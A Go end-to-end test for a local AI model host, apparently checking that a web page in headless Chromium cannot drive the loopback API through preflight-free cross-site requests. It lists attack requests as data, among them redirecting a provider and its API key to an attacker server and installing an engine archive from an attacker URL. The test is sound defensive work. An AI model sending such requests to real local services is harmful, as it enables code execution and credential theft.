package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/roundhouse-ai/roundhouse/client"
	"github.com/roundhouse-ai/roundhouse/host/config"
	"github.com/roundhouse-ai/roundhouse/internal/hosttest"
	"github.com/roundhouse-ai/roundhouse/internal/openaitest/fake"
	"github.com/roundhouse-ai/roundhouse/sdk"
)

const (
	browserAdminToken = "rh-admin-e2e-browser-7c1f0a9d3b5e"
	browserFakeKey    = "sk-fake-browser-e2e-0123456789abcdef"
)

// TestBrowserCannotDriveHost: a web page the user opens must not be able
// to drive the loopback host. A real headless chromium loads an attack
// page from another loopback origin (127.0.0.1 and localhost on another
// port) whose script fires every state-changing route of the host the
// ways that need no CORS preflight: fetch no-cors with a text/plain body,
// a typeless Blob body, an auto-submitted enctype=text/plain form, plus
// the live speech-to-text WebSocket. The host is the attacked setup: real
// plugin subprocesses, the ollama plugin managing an engine it has not
// got (so an install would download and run whatever it is given), the
// openai plugin with a provider on the in-project fake upstream. Nothing
// may take effect, with an admin token configured and without one (the
// default, where loopback callers are admins, and the browser is one).
// With the token, the same requests from Go with it and application/json
// must then work, which proves the checks looked at live paths.
func TestBrowserCannotDriveHost(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end: skipped in -short mode")
	}
	if runtime.GOOS != "linux" {
		t.Skip("the browser test runs on Linux")
	}
	chromium := requireChromium(t)
	ctx := ctxFor(t, 85*time.Second)
	_, plugins := binaries(t)
	t.Run("admin_token set", func(t *testing.T) { browserAttack(ctx, t, chromium, plugins, browserAdminToken) })
	t.Run("no admin_token", func(t *testing.T) { browserAttack(ctx, t, chromium, plugins, "") })
}

// browserAttack runs the attack against a fresh host with token as its
// admin_token ("" for none), then, with a token, the admin requests.
func browserAttack(ctx context.Context, t *testing.T, chromium, plugins, token string) {
	// The upstream a provider points at: every request it gets is recorded.
	upstream := fake.NewServer(fake.Options{Keys: []string{browserFakeKey}})
	t.Cleanup(upstream.Close)
	evil := newHitRecorder(t)

	// The ollama plugin's engine is a script that only records how it is
	// run: "serve" means a request got as far as starting the engine
	// (a pull, chat, load...). It exits at once, so nothing is served and
	// no real Ollama is needed; this is the "Roundhouse manages an engine it
	// has not installed yet" setup that an install request targets.
	engineLog := filepath.Join(t.TempDir(), "engine.log")
	engineBin := filepath.Join(t.TempDir(), "ollama")
	script := "#!/bin/sh\necho \"$*\" >> '" + engineLog + "'\nexit 1\n"
	if err := os.WriteFile(engineBin, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}

	h := hosttest.Start(t, hosttest.Options{
		NoEcho:     true,
		ExtraRoots: []string{only(t, plugins, "ollama", "openai")},
		Mutate: func(c *config.Config) {
			c.AdminToken = token
			c.Plugins["ollama"] = config.PluginConfig{Settings: map[string]any{
				"engine_host": freeHost(t), "manage_engine": "auto", "ollama_path": engineBin,
				"models_dir": t.TempDir(), "start_timeout": 5.0,
			}}
			c.Plugins["openai"] = config.PluginConfig{Providers: []sdk.ProviderConfig{{
				Name: "fake", BaseURL: upstream.URL, APIKeys: []sdk.APIKey{{Value: browserFakeKey}},
			}}}
		},
	})
	hostPort := strings.TrimPrefix(h.URL, "http://")
	_, port, _ := net.SplitHostPort(hostPort)
	admin, err := client.New(h.URL, nil)
	if err != nil {
		t.Fatal(err)
	}
	admin.SetAdminToken(token)

	// What the page sends: every state-changing route, with bodies that
	// would do harm if the host acted on them.
	evilArchive := evil.URL + "/ollama-linux-amd64.tgz"
	evilSHA := strings.Repeat("ab", 32)
	chat := []map[string]string{{"role": "user", "content": "sent by a web page"}}
	routes := []attackRoute{
		// native
		{"POST", "/v1/providers", map[string]any{"plugin": "openai", "name": "evil", "base_url": evil.URL + "/v1", "api_key": "sk-evil-0123456789abcdef"}},
		{"POST", "/v1/providers", map[string]any{"plugin": "openai", "name": "fake", "base_url": evil.URL + "/v1", "api_key": "sk-evil-0123456789abcdef"}},
		{"POST", "/v1/providers/fake/test", map[string]any{}},
		{"DELETE", "/v1/providers/fake", nil},
		{"PUT", "/v1/registries/evil.example", map[string]any{"username": "evil", "password": "evil-browser-password"}},
		{"DELETE", "/v1/registries/127.0.0.1:5999", nil},
		{"POST", "/v1/plugins/openai/restart", map[string]any{}},
		{"POST", "/v1/plugins/ollama/restart", map[string]any{}},
		{"POST", "/v1/engines/ollama/install", map[string]any{"url": evilArchive, "sha256": evilSHA}},
		{"POST", "/v1/engines/ollama/upgrade", map[string]any{"url": evilArchive, "sha256": evilSHA}},
		{"POST", "/v1/engines/ollama/start", map[string]any{}},
		{"POST", "/v1/engines/ollama/stop", map[string]any{}},
		{"POST", "/v1/models/pull", map[string]any{"model": "evil-browser-pull"}},
		{"POST", "/v1/models/load", map[string]any{"model": "evil-browser-model"}},
		{"POST", "/v1/models/unload", map[string]any{"model": "evil-browser-model"}},
		{"DELETE", "/v1/models/evil-browser-model", nil},
		{"DELETE", "/v1/pulls/0123456789abcdef", nil},
		{"POST", "/v1/services/chat", map[string]any{"model": "openai/gpt-4o-mini", "messages": chat}},
		// Ollama-compatible
		{"POST", "/api/pull", map[string]any{"model": "evil-browser-pull"}},
		{"DELETE", "/api/delete", map[string]any{"model": "evil-browser-model"}},
		{"POST", "/api/chat", map[string]any{"model": "openai/gpt-4o-mini", "messages": chat, "stream": false}},
		{"POST", "/api/generate", map[string]any{"model": "openai/gpt-3.5-turbo-instruct", "prompt": "sent by a web page", "stream": false}},
		{"POST", "/api/copy", map[string]any{"source": "evil-browser-model", "destination": "evil-browser-copy"}},
		{"POST", "/api/create", map[string]any{"model": "evil-browser-create", "from": "evil-browser-model"}},
		{"POST", "/api/push", map[string]any{"model": "evil-browser-model"}},
		// OpenAI-compatible
		{"POST", "/v1/chat/completions", map[string]any{"model": "openai/gpt-4o-mini", "messages": chat}},
		// Anthropic-compatible
		{"POST", "/v1/messages", map[string]any{"model": "openai/gpt-4o-mini", "max_tokens": 16, "messages": chat}},
	}
	// Both loopback names of the host: from a page on the other name the
	// request is cross-site, from the same name same-site (ports do not
	// make sites).
	targets := []string{"http://127.0.0.1:" + port, "http://localhost:" + port}
	site := newAttackSite(t, targets, routes)
	_, sitePort, _ := net.SplitHostPort(strings.TrimPrefix(site.URL, "http://"))

	// The state before the page runs: one saved registry login the page
	// would like to remove.
	if _, err := admin.SetRegistry(ctx, "127.0.0.1:5999", client.RegistryLogin{Username: "me", Password: "kept-registry-password"}); err != nil {
		t.Fatal(err)
	}
	providersBefore := providerSet(t, h.URL, token)
	pluginsBefore := pluginPIDs(t, ctx, admin)
	upstreamBefore := len(upstream.Requests())
	engineBefore := engineStarts(engineLog)

	origins := []string{"http://127.0.0.1:" + sitePort, "http://localhost:" + sitePort}
	var reps []pageReport
	for _, origin := range origins {
		bctx, cancel := context.WithTimeout(ctx, 20*time.Second)
		runChromium(bctx, t, chromium, origin+"/attack.html", site.got, origin)
		cancel()
		rep, _ := site.report(origin)
		if rep.Error != "" {
			t.Fatalf("the attack page from %s failed: %s", origin, rep.Error)
		}
		if want := len(targets) * (len(routes) + 1); len(rep.Results) != want {
			t.Fatalf("the attack page from %s reported %d results, want %d", origin, len(rep.Results), want)
		}
		reps = append(reps, rep)
	}
	t.Logf("what the attack pages saw:\n%s", summarize(reps...))

	// Nothing the page sent may have taken effect. Each check names what
	// did, so a failure lists the holes.
	if got := providerSet(t, h.URL, token); !slices.Equal(got, providersBefore) {
		t.Errorf("the page changed the providers: before %v, after %v", providersBefore, got)
	}
	if regs, err := admin.Registries(ctx); err != nil || len(regs) != 1 || regs[0].Host != "127.0.0.1:5999" {
		t.Errorf("the page changed the registry logins: %+v %v", regs, err)
	}
	if hits := evil.Hits(); len(hits) > 0 {
		t.Errorf("the page made the host fetch from the attacker's server: %v", hits)
	}
	if reqs := upstream.Requests(); len(reqs) > upstreamBefore {
		paths := map[string]int{}
		for _, r := range reqs[upstreamBefore:] {
			paths[r.Method+" "+r.Path]++
		}
		t.Errorf("the page made the host call the provider's upstream (spending the user's key) %d times: %v", len(reqs)-upstreamBefore, paths)
	}
	if n := engineStarts(engineLog); n > engineBefore {
		t.Errorf("the page made the ollama plugin start its engine %d times", n-engineBefore)
	}
	if pulls, err := admin.Pulls(ctx); err != nil {
		t.Errorf("GET /v1/pulls: %v", err)
	} else if len(pulls) > 0 {
		var ps []string
		for _, p := range pulls {
			ps = append(ps, p.Model+" ("+p.State+")")
		}
		t.Errorf("the page started %d model pulls: %v", len(pulls), ps)
	}
	if got := pluginPIDs(t, ctx, admin); !maps.Equal(got, pluginsBefore) {
		t.Errorf("the page restarted plugins: before %v, after %v", pluginsBefore, got)
	}
	if tags := getBody(t, h.URL+"/api/tags"); strings.Contains(tags, "evil-browser") {
		t.Errorf("the page's model shows in /api/tags: %s", tags)
	}
	for _, rep := range reps {
		for _, r := range rep.Results {
			if r.Path == "websocket" && r.Text == "open" {
				t.Errorf("the host accepted a live speech-to-text WebSocket from the page at %s (to %s)", rep.Origin, r.Target)
			}
		}
	}
	if t.Failed() || token == "" {
		return // the admin half would only add noise to the list above
	}

	// The same requests from a real client, with the admin token and
	// application/json, must work: the routes the page hit are live.
	t.Run("admin from Go", func(t *testing.T) {
		body := `{"plugin":"openai","name":"admin-added","base_url":"` + upstream.URL + `","api_key":"` + browserFakeKey + `"}`
		if code, b := adminDo(t, h.URL, token, "POST", "/v1/providers", body); code != http.StatusOK {
			t.Fatalf("POST /v1/providers as admin: %d %s", code, b)
		}
		if got := providerSet(t, h.URL, token); !slices.Contains(got, "openai/admin-added "+upstream.URL) {
			t.Fatalf("provider not added: %v", got)
		}
		if code, b := adminDo(t, h.URL, token, "DELETE", "/v1/providers/admin-added", ""); code != http.StatusOK && code != http.StatusNoContent {
			t.Fatalf("DELETE /v1/providers/admin-added as admin: %d %s", code, b)
		}
		if got := providerSet(t, h.URL, token); !slices.Equal(got, providersBefore) {
			t.Fatalf("provider not deleted: %v", got)
		}

		before := pluginPIDs(t, ctx, admin)["openai"]
		if _, err := admin.RestartPlugin(ctx, "openai"); err != nil {
			t.Fatalf("restart as admin: %v", err)
		}
		if after := pluginPIDs(t, ctx, admin)["openai"]; after == before {
			t.Fatalf("restart as admin: openai plugin still %s", after)
		}

		if _, err := admin.Chat(ctx, &sdk.ChatRequest{Model: "openai/gpt-4o-mini", Messages: []sdk.Message{{Role: "user", Content: "hi"}}}, client.Options{}); err != nil {
			t.Fatalf("chat as a client: %v", err)
		}
		if _, ok := upstream.LastRequest("/v1/chat/completions"); !ok {
			t.Fatal("the chat did not reach the upstream")
		}

		// The attacker's install, sent by the admin, reaches the download
		// server (and then fails the checksum: nothing is installed).
		err := admin.InstallEngine(ctx, "ollama", &sdk.InstallEngineRequest{URL: evilArchive, SHA256: evilSHA}, func(client.ProgressEvent) error { return nil })
		if len(evil.Hits()) == 0 {
			t.Fatalf("install as admin did not reach the download server (err %v)", err)
		}
		t.Logf("install as admin reached the download server %v and ended with: %v", evil.Hits(), err)
	})
}

// providerSet lists the providers as "plugin/name base_url", sorted.
func providerSet(t *testing.T, base, token string) []string {
	t.Helper()
	code, b := adminDo(t, base, token, "GET", "/v1/providers", "")
	if code != http.StatusOK {
		t.Fatalf("GET /v1/providers: %d %s", code, b)
	}
	var out struct {
		Providers []struct {
			Plugin  string `json:"plugin"`
			Name    string `json:"name"`
			BaseURL string `json:"base_url"`
		} `json:"providers"`
	}
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatal(err)
	}
	var s []string
	for _, p := range out.Providers {
		s = append(s, p.Plugin+"/"+p.Name+" "+p.BaseURL)
	}
	slices.Sort(s)
	return s
}

// pluginPIDs maps each plugin to "pid/restarts".
func pluginPIDs(t *testing.T, ctx context.Context, c *client.Client) map[string]string {
	t.Helper()
	ps, err := c.Plugins(ctx)
	if err != nil {
		t.Fatal(err)
	}
	m := map[string]string{}
	for _, p := range ps {
		m[p.Name] = fmt.Sprintf("pid %d restarts %d %s", p.PID, p.Restarts, p.State)
	}
	return m
}

// adminDo sends an admin request with the token (if any) and a JSON body.
func adminDo(t *testing.T, base, token, method, path, body string) (int, []byte) {
	t.Helper()
	var rd io.Reader
	if body != "" {
		rd = bytes.NewReader([]byte(body))
	}
	req, err := http.NewRequest(method, base+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, b
}

func getBody(t *testing.T, url string) string {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return string(b)
}

// engineStarts counts the times the plugin ran its engine ("serve").
func engineStarts(log string) int {
	n := 0
	for _, l := range strings.Split(readFile(log), "\n") {
		if strings.HasPrefix(l, "serve") {
			n++
		}
	}
	return n
}

func readFile(p string) string {
	b, _ := os.ReadFile(p)
	return string(b)
}
